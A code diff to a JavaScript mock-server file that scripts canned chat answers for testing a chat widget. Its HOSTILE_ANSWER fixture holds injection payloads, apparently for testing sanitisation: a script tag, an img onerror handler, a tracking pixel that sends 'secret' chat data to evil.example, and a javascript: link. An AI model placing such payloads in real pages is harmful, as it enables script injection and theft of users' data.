@@ -1,7 +1,10 @@
 // What the mock server answers. A word in the question picks the script.
 import { cite } from "./mock-knowledge.mjs";
 
-const CITED_ANSWER = `A limit is a number of requests in a window of time, for example **30 messages in one minute**. Gatehouse never lets in more than that in *any* window, so there is no moment at which a counter jumps back to zero [1].
+const CITED_ANSWER =
+  "A limit is a number of requests in a window of time, for example **30 messages in one " +
+  "minute**. Gatehouse never lets in more than that in *any* window, so there is no moment at " +
+  `which a counter jumps back to zero [1].
 
 - Before anyone is known, limits hold per address.
 - After that, they hold per visitor, site and endpoint [2].
@@ -18,10 +21,10 @@ const SESSION_ANSWER =
 
 const HOSTILE_ANSWER = `### Steps
 
-<script>window.hacked = 1</script><img src="https://evil.example/?q=secret" onerror="window.hacked = 2">
+<script>window.hacked = 1</script><img src="https://evil.example/?q=secret" onerror="hacked = 2">
 
-![tracking pixel](https://evil.example/pixel.png?chat=secret) and [a bad link](javascript:window.hacked=3)
-and [a good link](https://example.org/docs).
+![tracking pixel](https://evil.example/pixel.png?chat=secret) and
+[a bad link](javascript:window.hacked=3) and [a good link](https://example.org/docs).
 
 \`\`\`sh
 curl -N https://chat.example/api/v1/chat
@@ -50,7 +53,7 @@ const SCRIPTS = [
     citations: [cite(1, "doc-sessions", "How long it lives", "Conversations are kept", "good.")] },
   { when: /slow/i, text: LONG_ANSWER, delayMs: 40 },
   { when: /think/i, text: "At last.", delayMs: 5, firstDelayMs: 3000 },
-  { when: /drop/i, text: LONG_ANSWER, delayMs: 20, dropAfter: [8, 25] },
+  { when: /drop/i, text: LONG_ANSWER, delayMs: 20, dropAfter: [8, 45] },
   { when: /closing/i, text: LONG_ANSWER, delayMs: 20, closeAfter: 10 },
   { when: /reset/i, text: LONG_ANSWER, delayMs: 20, dropAfter: [10], forgets: true },
   { when: /fail/i, text: "Half an ans", delayMs: 5,
